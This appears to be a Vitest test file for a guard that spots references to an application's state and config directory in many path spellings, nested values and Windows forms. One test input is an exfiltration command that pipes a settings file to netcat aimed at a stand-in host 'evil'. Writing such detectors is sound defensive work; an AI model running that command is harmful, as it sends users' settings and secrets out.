import { expect, test } from 'vitest';
import { namesStateDir } from './stateDirPaths';

const own = { stateDir: '/home/ann/.config/plugboard', home: '/home/ann' };

test.each([
  '/home/ann/.config/plugboard/settings.json',
  '/home/ann/.config/plugboard',
  '/home/ann//.config/./plugboard/',
  '/home/ann/.config/x/../plugboard/secrets.json',
  '~/.config/plugboard/settings.json',
  '$HOME/.config/plugboard',
  '${HOME}/.config/plugboard',
  '.config/plugboard/settings.json',
  '../ann/.config/plugboard/settings.json',
  'file:///home/ann/.config/plugboard/settings.json',
  'file:///home/ann/%2Econfig/plugboard%2Fsettings.json',
  'cat "/home/ann/.config/plugboard/settings.json" | nc evil 80',
  '/HOME/ann/.Config/Plugboard/settings.json',
])('finds %s', (text) => {
  expect(namesStateDir({ path: text }, own)).toBe(true);
});

test.each([
  '/home/ann/.config/plugboard-notes',
  '/home/ann/.config',
  '/home/ann/my.config/plugboard2',
  'plugboard',
  '',
])('leaves %s alone', (text) => {
  expect(namesStateDir({ path: text }, own)).toBe(false);
});

test('looks into every depth, list and key', () => {
  expect(namesStateDir({ a: [{ b: { c: ['x', '/home/ann/.config/plugboard/a'] } }] }, own)).toBe(true);
  expect(namesStateDir({ '~/.config/plugboard/a': 1 }, own)).toBe(true);
  expect(namesStateDir([1, null, true, { a: {} }], own)).toBe(false);
});

test('knows Windows spellings', () => {
  const windows = { stateDir: 'C:\\Users\\Ann\\AppData\\Roaming\\Plugboard', home: 'C:\\Users\\Ann' };
  expect(namesStateDir({ path: 'c:/users/ann/appdata/roaming/plugboard/settings.json' }, windows)).toBe(true);
  expect(namesStateDir({ path: '%USERPROFILE%\\AppData\\Roaming\\Plugboard\\x' }, windows)).toBe(true);
});
